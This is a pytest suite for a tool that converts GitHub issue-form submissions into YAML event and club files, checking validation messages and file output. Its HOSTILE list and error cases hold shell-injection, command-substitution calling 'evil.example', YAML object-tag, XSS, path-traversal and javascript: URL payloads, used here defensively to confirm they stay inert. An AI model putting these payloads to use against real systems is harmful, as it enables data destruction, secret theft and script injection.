"""``groundgame form``: a submitted issue form becomes the file a person would write, or plain errors."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from groundgame.cli import main
from groundgame.content.network import load_network
from groundgame.content.yamlfile import read_file
from groundgame.tools.forms import FORMS, code_span, comment, submit

REPO = Path(__file__).resolve().parents[1]


def render(kind: str, answers: dict[str, str], *, drop: str = "", crlf: bool = False) -> str:
    """A body as GitHub renders a submitted issue form: a ``### Label`` section per field."""
    parts = []
    for field in FORMS[kind]:
        if field.label == drop:
            continue
        value = answers.get(field.id, "")
        if field.type == "checkboxes":
            value = "\n".join(f"- [{'X' if value else ' '}] {option}" for option in field.options)
        parts.append(f"### {field.label}\n\n{value or '_No response_'}")
    body = "\n\n".join(parts)
    return body.replace("\n", "\r\n") if crlf else body


EVENT = {"club": "paris-web", "title": "Soirée cartes animées", "start": "2026-12-19 14:00",
         "end": "2026-12-19 17:30", "venue": "Bibliothèque", "city": "Paris", "country": "fr", "format": "workshop",
         "summary": "On fabrique des cartes qui s'allument.\nVenez en famille."}


def test_the_templates_ask_exactly_the_questions_the_parser_reads() -> None:
    for kind, filename in (("event", "event.yml"), ("club", "club.yml")):
        template = yaml.safe_load((REPO / ".github/ISSUE_TEMPLATE" / filename).read_text("utf-8"))
        assert template["labels"] == [f"form: {kind}"]
        asked = [item for item in template["body"] if item["type"] != "markdown"]
        assert [(i["id"], i["attributes"]["label"], i["type"]) for i in asked] == [
            (f.id, f.label, f.type) for f in FORMS[kind]]
        for item, field in zip(asked, FORMS[kind], strict=True):
            if field.type == "checkboxes":
                assert [o["label"] for o in item["attributes"]["options"]] == list(field.options)
                continue
            assert item["validations"]["required"] is field.required, field.id
            assert item["attributes"].get("description", "") == field.description, field.id
            assert tuple(item["attributes"].get("options", ())) == field.options


def test_the_format_choices_are_the_schemas() -> None:
    schema = json.loads((REPO / "schemas/event.schema.json").read_text("utf-8"))
    field = next(f for f in FORMS["event"] if f.id == "format")
    assert list(field.options) == schema["properties"]["format"]["enum"]


@pytest.mark.parametrize("crlf", [False, True])
def test_an_event_form_becomes_the_file_a_person_would_write(site, capsys, crlf: bool) -> None:
    body = site.root / "body.md"
    body.write_bytes(render("event", EVENT, crlf=crlf).encode())
    assert main(["--root", str(site.root), "form", "event", "--body-file", str(body)]) == 0
    path = site.path("events/paris-web/soiree-cartes-animees.yaml")
    assert path.read_text("utf-8") == """\
# yaml-language-server: $schema=../../../schemas/event.schema.json
title: Soirée cartes animées
summary: |
  On fabrique des cartes qui s'allument.
  Venez en famille.
format: workshop
start: 2026-12-19T14:00
end: 2026-12-19T17:30
venue:
  name: Bibliothèque
  city: Paris
  country: FR
"""
    assert "`content/events/paris-web/soiree-cartes-animees.yaml`" in capsys.readouterr().out
    assert main(["--root", str(site.root), "fmt", "--check", str(path)]) == 0
    outcome = load_network(site.root)
    assert outcome.ok
    event = outcome.network.events["paris-web/soiree-cartes-animees"]
    assert event.title.text("fr") == "Soirée cartes animées"
    assert event.timezone == "Europe/Paris"


def test_an_all_day_online_event_with_its_own_file_name(site) -> None:
    answers = {"club": "sao-paulo-lab", "title": "Hackathon", "slug": "hackathon-2027", "start": "2027-3-6",
               "end": "2027-03-07", "online": "https://meet.example.org/hack", "languages": "pt-BR, en",
               "registration": "https://example.org/inscricao"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    assert outcome.path == "content/events/sao-paulo-lab/hackathon-2027.yaml"
    text = (site.root / outcome.path).read_text("utf-8")
    assert "start: 2027-03-06\nend: 2027-03-07\n" in text
    assert "languages: [pt-BR, en]\n" in text or "languages:\n  - pt-BR\n  - en\n" in text
    assert "online:\n  url: https://meet.example.org/hack\n" in text


HOSTILE = [
    "Atelier: \"Noël\" & friends #1",
    "'; rm -rf / #",
    "$(curl evil.example) `id` ${{ secrets.TOKEN }}",
    "--- !!python/object:os.system\n*alias &anchor {a: b} [c]",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "yes",
    "2026-12-01",
    "@everyone ping",
    "% not a directive\n? not a key\n- not a list",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(site, text: str) -> None:
    answers = {**EVENT, "title": text.replace("\n", " "), "summary": text, "slug": "hostile"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    doc = read_file(site.root / outcome.path, outcome.path)
    assert doc.data["title"] == text.replace("\n", " ")
    assert doc.data["summary"].rstrip("\n") == text
    assert load_network(site.root).ok


def test_a_heading_typed_inside_an_answer_stays_in_the_answer(site) -> None:
    answers = {**EVENT, "description": "Programme:\n\n### Description\n\n- soudure\n- HTML"}
    outcome = submit(site.root, "event", render("event", answers))
    assert outcome.ok, outcome.errors
    doc = read_file(site.root / outcome.path, outcome.path)
    assert doc.data["description"] == "Programme:\n\n### Description\n\n- soudure\n- HTML\n"


@pytest.mark.parametrize(("answers", "drop", "expected"), [
    ({**EVENT, "start": ""}, "", [("Start", "is required; please fill it in")]),
    (EVENT, "Start", [("Start", "is missing from the issue; please open it with the form")]),
    ({**EVENT, "start": "2026-02-30 19:00"}, "",
     [("Start", "is not a real date or time (got '2026-02-30 19:00'); check the day of the month and the hour")]),
    ({**EVENT, "start": "next friday"}, "",
     [("Start", "must be a date (2026-12-01) or a local date and time (2026-12-01T19:00) (got 'next friday')")]),
    ({**EVENT, "club": "../../etc"}, "",
     [("Club id", "must be a club's id, such as paris-atelier-du-web (got '../../etc')")]),
    ({**EVENT, "slug": "../../../pwned"}, "",
     [("Short name for the file", "must be lowercase letters and digits joined by single hyphens "
                                  "(got '../../../pwned'); for example 'pwned'")]),
    ({**EVENT, "country": "France"}, "",
     [("Country code", "must be a two-letter country code in capitals, such as 'BR' (got 'France')")]),
    ({**EVENT, "timezone": "Europe/Pariss"}, "",
     [("Time zone", "must be an IANA time zone (got 'Europe/Pariss'); did you mean 'Europe/Paris'?")]),
    ({**EVENT, "online": "javascript:alert(1)"}, "",
     [("Online address", "must be a web address starting with https:// or http://, or a mailto: address "
                         "(got 'javascript:alert(1)')")]),
])
def test_wrong_answers_come_back_in_the_forms_words(site, answers, drop, expected) -> None:
    before = sorted(p.relative_to(site.root) for p in site.root.rglob("*"))
    outcome = submit(site.root, "event", render("event", answers, drop=drop))
    assert list(outcome.errors) == expected
    assert sorted(p.relative_to(site.root) for p in site.root.rglob("*")) == before


def test_an_unknown_club_and_an_end_before_the_start(site) -> None:
    outcome = submit(site.root, "event", render("event", {**EVENT, "club": "no-such-club"}))
    assert outcome.errors == (("Club id", "is not the id of a club of the network (got 'no-such-club'); "
                                          "see the file names in content/clubs/"),)
    outcome = submit(site.root, "event", render("event", {**EVENT, "club": "paris-wbe"}))
    assert outcome.errors == (("Club id", "is not the id of a club of the network (got 'paris-wbe'); "
                                          "did you mean 'paris-web'?"),)
    assert not site.path("events/no-such-club").exists()
    outcome = submit(site.root, "event", render("event", {**EVENT, "end": "2026-12-19 13:00"}))
    assert [label for label, _ in outcome.errors] == ["End"]


def test_whole_record_rules_are_said_in_the_forms_terms(site) -> None:
    outcome = submit(site.root, "event", render("event", {**EVENT, "venue": "", "city": "", "country": ""}))
    assert outcome.errors == (("Venue name", "is needed, or an Online address: say where people meet, "
                                             "or how they join online"),)
    outcome = submit(site.root, "club", render("club", {**CLUB, "city": "", "country": ""}), author="rita-gh")
    assert outcome.errors == (("City", "and Country code are needed, or tick 'The club meets online'"),)


def test_an_existing_file_is_never_overwritten(site) -> None:
    original = site.path("events/paris-web/soiree.yaml").read_bytes()
    outcome = submit(site.root, "event", render("event", {**EVENT, "slug": "soiree"}))
    assert outcome.errors == (("Short name for the file", "an event with this short name already exists for the "
                               "club (content/events/paris-web/soiree.yaml); please choose another"),)
    assert site.path("events/paris-web/soiree.yaml").read_bytes() == original


def test_the_comment_shows_organizer_text_without_markup(site, capsys) -> None:
    body = site.root / "body.md"
    body.write_text(render("event", {**EVENT, "start": "@octocat <img src=x> [x](javascript:y)"}), "utf-8")
    assert main(["--root", str(site.root), "form", "event", "--body-file", str(body)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("Thank you! The event could not be turned into a file yet.")
    assert ("- **Start**: `must be a date (2026-12-01) or a local date and time (2026-12-01T19:00) "
            "(got '@octocat <img src=x> [x](javascript:y)')`\n") in out
    assert code_span("a `b` c") == "``a `b` c``"
    assert code_span("`x") == "`` `x ``"
    assert code_span("two\nlines") == "`two lines`"


def test_json_output_for_tools(site, capsys) -> None:
    body = site.root / "body.md"
    body.write_text(render("event", {**EVENT, "format": "party"}), "utf-8")
    assert main(["--root", str(site.root), "form", "event", "--body-file", str(body), "--format", "json"]) == 1
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] is False
    assert result["errors"][0]["field"] == "Format"
    assert result["errors"][0]["message"].startswith("must be one of workshop, hackfest")


CLUB = {"name": "Lisbon Makers", "summary": "Fazemos coisas juntos.", "languages": "pt en", "region": "europe",
        "city": "Lisboa", "country": "PT", "timezone": "Europe/Lisbon", "leader": "Rita Sousa",
        "website": "https://makers.example.pt"}


def test_a_club_form_makes_its_author_the_first_leader(site, capsys) -> None:
    body = site.root / "club.md"
    body.write_text(render("club", {**CLUB, "online": "yes"}), "utf-8")
    args = ["--root", str(site.root), "form", "club", "--body-file", str(body), "--author", "rita-gh"]
    assert main(args) == 0
    assert site.path("clubs/lisbon-makers.yaml").read_text("utf-8") == """\
# yaml-language-server: $schema=../../schemas/club.schema.json
name: Lisbon Makers
summary: Fazemos coisas juntos.
languages:
  - pt
  - en
region: europe
location:
  city: Lisboa
  country: PT
online: true
timezone: Europe/Lisbon
leaders:
  - name: Rita Sousa
    github: rita-gh
contact:
  website: https://makers.example.pt
status: active
"""
    capsys.readouterr()
    assert main(["--root", str(site.root), "codeowners"]) == 0
    owners = (site.root / ".github/CODEOWNERS").read_text("utf-8")
    assert "/content/events/lisbon-makers/ @rita-gh @ada-coord\n" in owners


def test_a_club_form_with_an_unknown_region_and_no_author(site, capsys) -> None:
    outcome = submit(site.root, "club", render("club", {**CLUB, "region": "europa"}), author="rita-gh")
    assert [label for label, _ in outcome.errors] == ["Region"]
    assert "europe" in outcome.errors[0][1]
    body = site.root / "club.md"
    body.write_text(render("club", CLUB), "utf-8")
    assert main(["--root", str(site.root), "form", "club", "--body-file", str(body), "--author", "x y"]) == 2
    assert "--author 'x y'" in capsys.readouterr().err
    assert not site.path("clubs/lisbon-makers.yaml").exists()


def test_the_comment_on_success_names_the_file() -> None:
    from groundgame.tools.forms import FormResult

    text = comment(FormResult("event", "content/events/a/b.yaml", "a/b", "B"))
    assert "`content/events/a/b.yaml`" in text
